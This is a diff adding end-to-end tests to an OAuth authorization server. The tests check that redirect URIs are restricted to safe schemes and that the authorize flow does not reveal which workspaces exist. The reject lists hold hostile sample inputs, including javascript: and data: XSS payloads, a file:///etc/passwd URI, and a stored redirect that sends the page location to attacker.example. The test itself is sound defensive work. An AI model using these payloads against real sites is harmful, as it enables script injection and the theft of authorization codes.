@@ -9,12 +9,19 @@ from __future__ import annotations
 
 from datetime import timedelta
 from pathlib import Path
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, quote, urlsplit
 
 import attrs
 from cryptography.fernet import Fernet
 
-from agentws.domain.models import McpToken, OAuthClient, OAuthGrant, OAuthRefreshToken
+from agentws.domain.models import (
+    Capability,
+    ClientKind,
+    McpToken,
+    OAuthClient,
+    OAuthGrant,
+    OAuthRefreshToken,
+)
 from agentws.domain.rules import hash_secret, utcnow
 from tests.e2e.mcp_support import running
 from tests.e2e.oauth_support import (
@@ -283,3 +290,113 @@ async def test_a_code_or_refresh_token_for_another_endpoint_is_an_invalid_target
         assert refreshed.json()["error"] == "invalid_target"
         assert await mcp_status(server, tokens.json()["access_token"]) == 200
         assert await mcp_status(server, tokens.json()["access_token"], other) == 401
+
+
+async def test_redirect_uris_are_https_loopback_http_or_an_apps_own_scheme(
+    tmp_path: Path,
+) -> None:
+    async with running(tmp_path) as server, admin_browser(server) as browser:
+        for bad in (
+            "javascript:alert(document.domain)//",
+            "data:text/html,<script>alert(1)</script>",
+            "file:///etc/passwd",
+            "myapp:/callback",  # a private-use scheme must be reverse-domain (RFC 8252 §7.1)
+            "http://app.example/cb",
+            "https://user:secret@app.example/cb",
+            "http://user@127.0.0.1:5000/cb",
+            "https://app.example/cb#fragment",
+        ):
+            answer = await browser.http.post(
+                "/oauth/register",
+                json={"redirect_uris": [REDIRECT, bad], "token_endpoint_auth_method": "none"},
+            )
+            assert answer.status_code == 400, (bad, answer.text)
+            assert answer.json()["error"] == "invalid_redirect_uri", bad
+            assert "redirect_uris[1]" in answer.json()["error_description"], answer.text
+        for good in (
+            "com.example.app:/oauth/callback",
+            "https://app.example/cb",
+            "http://[::1]:9/cb",
+            "http://localhost/cb",
+        ):
+            await register_client(browser.http, [good])
+        assert len(await server.store.select(OAuthClient)) == 4
+
+        # A client stored before these rules never gets a browser sent to its script.
+        sneaky = "javascript:fetch('//attacker.example/'+location)//"
+        await server.store.insert(
+            OAuthClient(
+                client_id="old-client",
+                kind=ClientKind.DYNAMIC,
+                name="Old",
+                metadata={"redirect_uris": [sneaky], "token_endpoint_auth_method": "none"},
+            )
+        )
+        _, challenge = pkce_pair()
+        for redirect in (sneaky, None):
+            extra = {"redirect_uri": redirect} if redirect else {}
+            url = authorize_url(server, "old-client", challenge, **extra)
+            if redirect is None:
+                url = url.replace("&redirect_uri=" + quote(REDIRECT, safe=""), "")
+            answer = await browser.http.get(url)
+            assert answer.status_code == 400, answer.headers
+            assert "location" not in answer.headers
+            assert answer.json()["error"] == "invalid_request"
+        # Nor does a request left pending from before them.
+        grant = OAuthGrant(
+            client_id="old-client",
+            group_id=(await server.store.group_by_slug("acme", "ops")).id,
+            scope=Capability.READ,
+            redirect_uri=sneaky,
+            redirect_uri_explicit=True,
+            code_challenge=challenge,
+            resource=server.url,
+            expires_at=utcnow() + timedelta(minutes=5),
+        )
+        await server.store.insert(grant)
+        await browser.sign_in()
+        page = await browser.http.get(f"/dashboard/oauth/consent/{grant.id}")
+        assert "javascript" not in page.headers["content-security-policy"]
+        decided = await browser.decide(page)
+        assert decided.status_code == 400
+        assert "location" not in decided.headers
+
+
+async def test_authorize_tells_no_stranger_which_workspaces_and_groups_exist(
+    tmp_path: Path,
+) -> None:
+    async with running(tmp_path) as server, admin_browser(server) as browser:
+        client = await register_client(browser.http)
+        _, challenge = pkce_pair()
+        answers = {}
+        for endpoint in ("acme/ops", "acme/nope", "nope/ops"):
+            resource = f"{server.base_url}/mcp/g/{endpoint}"
+            url = authorize_url(server, client["client_id"], challenge, resource=resource)
+            answer = await browser.http.get(url)  # nobody signed in
+            assert answer.status_code == 302, (endpoint, answer.text)
+            answers[endpoint] = answer
+        consent_pages = {e: a.headers["location"] for e, a in answers.items()}
+        assert all("/dashboard/oauth/consent/ogr_" in c for c in consent_pages.values())
+        assert len({tuple(sorted(a.headers.keys())) for a in answers.values()}) == 1
+        assert len({len(a.content) for a in answers.values()}) == 1
+        # The consent page itself needs an administrator, for every one of them.
+        for page in consent_pages.values():
+            unsigned = await browser.http.get(page)
+            assert unsigned.status_code == 302
+            assert "/dashboard/login" in unsigned.headers["location"]
+
+        # Signed in, the administrator is told, and can only send the client back.
+        await browser.sign_in()
+        page = await browser.http.get(consent_pages["acme/nope"])
+        assert page.status_code == 200
+        assert "does not exist" in page.text and 'value="approve"' not in page.text
+        sent_back = await browser.decide(page, "deny")
+        assert sent_back.status_code == 303
+        assert sent_back.headers["location"].startswith(REDIRECT)
+        query = parse_qs(urlsplit(sent_back.headers["location"]).query)
+        assert query["error"] == ["invalid_target"]
+        assert query["state"] == ["st-1"]
+        forced = await browser.http.get(consent_pages["nope/ops"])
+        approved = await browser.decide(forced, "approve")
+        assert approved.status_code == 303
+        assert "code" not in parse_qs(urlsplit(approved.headers["location"]).query)
